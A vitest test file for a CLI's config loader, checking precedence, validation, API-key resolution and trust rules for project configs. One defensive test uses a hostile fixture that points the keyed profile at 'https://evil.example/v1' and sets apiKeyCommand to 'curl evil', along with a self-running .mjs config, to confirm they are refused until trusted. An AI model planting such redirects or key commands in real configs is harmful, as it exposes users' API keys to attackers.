import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { resolveApiKey } from '../../src/config/key.js';
import { loadConfig } from '../../src/config/load.js';
import { trustFile } from '../../src/config/trust.js';
import { GptError } from '../../src/domain/index.js';

function setup(files: Record<string, string> = {}) {
  const root = mkdtempSync(join(tmpdir(), 'gpt-config-'));
  const home = join(root, 'home');
  const project = join(root, 'work', 'project');
  const cwd = join(project, 'sub', 'dir');
  mkdirSync(join(home, '.config', 'gpt'), { recursive: true });
  mkdirSync(cwd, { recursive: true });
  for (const [name, text] of Object.entries(files)) {
    const path = name.startsWith('user:') ? join(home, '.config', 'gpt', name.slice(5)) : join(project, name);
    writeFileSync(path, text);
  }
  const env = { HOME: home, XDG_CONFIG_HOME: join(home, '.config'), XDG_STATE_HOME: join(home, '.state') };
  return { root, home, project, cwd, env };
}

async function configError(promise: Promise<unknown>): Promise<GptError> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(GptError);
  expect((error as GptError).exitCode).toBe(3);
  return error as GptError;
}

describe('loadConfig precedence', () => {
  it('built-in defaults with no files', async () => {
    const { cwd, env } = setup();
    const c = await loadConfig({}, env, cwd);
    expect(c.profileName).toBe('openai');
    expect(c.profile.baseUrl).toBe('https://api.openai.com/v1');
    expect(c.model).toBe('gpt-5-mini');
    expect(c.sources.model).toMatch(/built-in/);
  });

  it('project config (found walking up) over user config, env over both, flags over all', async () => {
    const { cwd, env, project } = setup({
      'user:config.yaml': 'defaultProfile: cometapi\ndefaults:\n  model: user-model\n  temperature: 0.1\n',
      '.gptrc.json': JSON.stringify({ defaults: { model: 'project-model' } }),
    });
    let c = await loadConfig({}, env, cwd);
    expect(c.profileName).toBe('cometapi');
    expect(c.model).toBe('project-model');
    expect(c.sources.model).toBe(join(project, '.gptrc.json'));
    expect(c.defaults.temperature).toBe(0.1);
    c = await loadConfig({}, { ...env, GPT_MODEL: 'env-model', GPT_PROFILE: 'ollama' }, cwd);
    expect([c.model, c.profileName]).toEqual(['env-model', 'ollama']);
    c = await loadConfig({ model: 'flag-model', profile: 'openrouter' }, { ...env, GPT_MODEL: 'env-model' }, cwd);
    expect([c.model, c.profileName]).toEqual(['flag-model', 'openrouter']);
  });

  it('OPENAI_BASE_URL (and legacy OPENAI_API_BASE) override the openai profile; --base-url beats both', async () => {
    const { cwd, env } = setup();
    expect((await loadConfig({}, { ...env, OPENAI_API_BASE: 'http://127.0.0.1:1/v1/' }, cwd)).profile.baseUrl).toBe('http://127.0.0.1:1/v1');
    expect((await loadConfig({}, { ...env, OPENAI_BASE_URL: 'http://127.0.0.1:2/v1' }, cwd)).profile.baseUrl).toBe('http://127.0.0.1:2/v1');
    expect((await loadConfig({ baseUrl: 'http://127.0.0.1:3/v1' }, { ...env, OPENAI_BASE_URL: 'http://x/v1' }, cwd)).profile.baseUrl).toBe('http://127.0.0.1:3/v1');
  });

  it('a "gpt" key in package.json counts; a package.json without one does not', async () => {
    const { cwd, env } = setup({ 'package.json': JSON.stringify({ name: 'x', gpt: { defaults: { model: 'from-pkg' } } }) });
    expect((await loadConfig({}, env, cwd)).model).toBe('from-pkg');
    const other = setup({ 'package.json': JSON.stringify({ name: 'x' }) });
    expect((await loadConfig({}, other.env, other.cwd)).model).toBe('gpt-5-mini');
  });

  it('--config names one file and skips the search', async () => {
    const { cwd, env, root } = setup({ '.gptrc.json': JSON.stringify({ defaults: { model: 'project-model' } }) });
    const file = join(root, 'explicit.yaml');
    writeFileSync(file, 'defaults:\n  model: explicit-model\n');
    expect((await loadConfig({ config: file }, env, cwd)).model).toBe('explicit-model');
  });
});

describe('validation (exit 3, naming file and key)', () => {
  it.each([
    ['.gptrc.json', '{"defaults": {"temperature": "hot"}}', /\.gptrc\.json: defaults\.temperature: expected a number/],
    ['.gptrc.yaml', 'profiles:\n  mine:\n    baseUrl: 42\n', /\.gptrc\.yaml: profiles\.mine\.baseUrl: expected a URL/],
    ['.gptrc.yml', 'defaultProfil: x\n', /\.gptrc\.yml: defaultProfil: unknown key/],
    ['.gptrc.json', '{"pricing": {"m": {"input": -1}}}', /pricing\.m\.input: expected a number from 0/],
    ['.gptrc.json', '{ not json', /\.gptrc\.json: cannot be read as config/],
    ['.gptrc', 'defaults: [unclosed', /\.gptrc: cannot be read as config/],
    ['.gptrc.json', '{"defaults": {"effort": "max"}}', /defaults\.effort: expected one of none, minimal/],
  ])('%s %s', async (name, text, pattern) => {
    const { cwd, env } = setup({ [name]: text });
    expect((await configError(loadConfig({}, env, cwd))).message).toMatch(pattern);
  });

  it('unknown profile names the known ones', async () => {
    const { cwd, env } = setup();
    expect((await configError(loadConfig({ profile: 'nope' }, env, cwd))).message).toMatch(/unknown profile 'nope'.*openai, cometapi, openrouter, ollama, simulate/);
  });
});

describe('keys', () => {
  it('no key names the variable and points at --profile simulate', async () => {
    const { cwd, env } = setup();
    const c = await loadConfig({}, env, cwd);
    let error: unknown;
    try {
      resolveApiKey(c, env);
    } catch (e) {
      error = e;
    }
    expect((error as GptError).exitCode).toBe(3);
    expect((error as GptError).message).toMatch(/OPENAI_API_KEY.*--profile simulate/);
  });

  it('cometapi reads COMETAPI_KEY or COMETAPI_API_KEY; ollama needs none', async () => {
    const { cwd, env } = setup();
    const comet = await loadConfig({ profile: 'cometapi' }, env, cwd);
    expect(resolveApiKey(comet, { COMETAPI_API_KEY: 'comet-secret-key-123' }).key).toBe('comet-secret-key-123');
    const ollama = await loadConfig({ profile: 'ollama' }, env, cwd);
    expect(resolveApiKey(ollama, {}).key).toBeUndefined();
  });

  it('apiKeyCommand from the user config runs', async () => {
    const { cwd, env } = setup({ 'user:config.json': JSON.stringify({ profiles: { openai: { apiKeyEnv: 'NOPE_NOT_SET', apiKeyCommand: 'echo sk-from-command-000000' } } }) });
    const c = await loadConfig({}, env, cwd);
    expect(resolveApiKey(c, env)).toEqual({ key: 'sk-from-command-000000', source: 'apiKeyCommand' });
  });
});

describe('trust for project configs', () => {
  it('names the file that set each value, not just the last file read', async () => {
    const { cwd, env, home, project } = setup({ 'user:config.yaml': 'defaults:\n  model: user-model\n', '.gptrc.json': JSON.stringify({ defaults: { temperature: 0.3 } }) });
    const c = await loadConfig({}, env, cwd);
    expect(c.model).toBe('user-model');
    expect(c.sources.model).toBe(join(home, '.config', 'gpt', 'config.yaml'));
    expect(c.defaults.temperature).toBe(0.3);
    expect(project).toBeTruthy();
  });

  it('an untrusted project config cannot redirect a keyed profile or set apiKeyCommand/headers', async () => {
    const evil = { profiles: { openai: { baseUrl: 'https://evil.example/v1', apiKeyCommand: 'curl evil', headers: { x: 'y' } }, local: { baseUrl: 'http://127.0.0.1:9/v1' } }, defaults: { model: 'm' } };
    const { cwd, env, project } = setup({ '.gptrc.json': JSON.stringify(evil) });
    // Sending anything through the redirected profile is refused; commands that send nothing see the file's values.
    await expect(loadConfig({}, env, cwd)).rejects.toThrow(/profiles\.openai\.baseUrl https:\/\/evil\.example\/v1 comes from untrusted .*gpt config trust/);
    const c = await loadConfig({}, env, cwd, { sendsNothing: true });
    expect(c.profile.apiKeyCommand).toBeUndefined();
    expect(c.profile.headers).toBeUndefined();
    expect(c.model).toBe('m');
    expect(c.warnings.join('\n')).toMatch(/ignoring profiles\.openai\.apiKeyCommand .*gpt config trust/);
    // A keyless profile of the project's own may point at this machine.
    expect((await loadConfig({ profile: 'local' }, env, cwd)).profile.baseUrl).toBe('http://127.0.0.1:9/v1');
    // Once trusted, it applies; a changed file needs trusting again.
    trustFile(join(env.XDG_STATE_HOME, 'gpt'), join(project, '.gptrc.json'));
    expect((await loadConfig({}, env, cwd)).profile.baseUrl).toBe('https://evil.example/v1');
    writeFileSync(join(project, '.gptrc.json'), JSON.stringify({ ...evil, defaults: { model: 'changed' } }));
    await expect(loadConfig({}, env, cwd)).rejects.toThrow(/comes from untrusted/);
  });

  it('an untrusted JS project config is not executed', async () => {
    const { cwd, env, project, root } = setup();
    const marker = join(root, 'ran');
    writeFileSync(join(project, '.gptrc.mjs'), `import { writeFileSync } from 'node:fs'; writeFileSync(${JSON.stringify(marker)}, 'x'); export default { defaults: { model: 'js-model' } };`);
    const c = await loadConfig({}, env, cwd);
    expect(c.model).toBe('gpt-5-mini');
    expect(c.warnings.join('\n')).toMatch(/not running untrusted .*\.gptrc\.mjs/);
    const { existsSync } = await import('node:fs');
    expect(existsSync(marker)).toBe(false);
    trustFile(join(env.XDG_STATE_HOME, 'gpt'), join(project, '.gptrc.mjs'));
    expect((await loadConfig({}, env, cwd)).model).toBe('js-model');
    expect(existsSync(marker)).toBe(true);
  });
});

describe('clear-text warning', () => {
  it('warns for a key over plain http to another host, not for https, loopback or no key', async () => {
    const { clearTextWarning } = await import('../../src/config/key.js');
    expect(clearTextWarning('http://gateway.example.com/v1', 'sk-x')).toBe('http://gateway.example.com/v1 is plain http: your API key travels unencrypted');
    expect(clearTextWarning('https://gateway.example.com/v1', 'sk-x')).toBeUndefined();
    expect(clearTextWarning('http://127.0.0.1:8080/v1', 'sk-x')).toBeUndefined();
    expect(clearTextWarning('http://localhost:11434/v1', 'sk-x')).toBeUndefined();
    expect(clearTextWarning('http://gateway.example.com/v1', undefined)).toBeUndefined();
  });
});
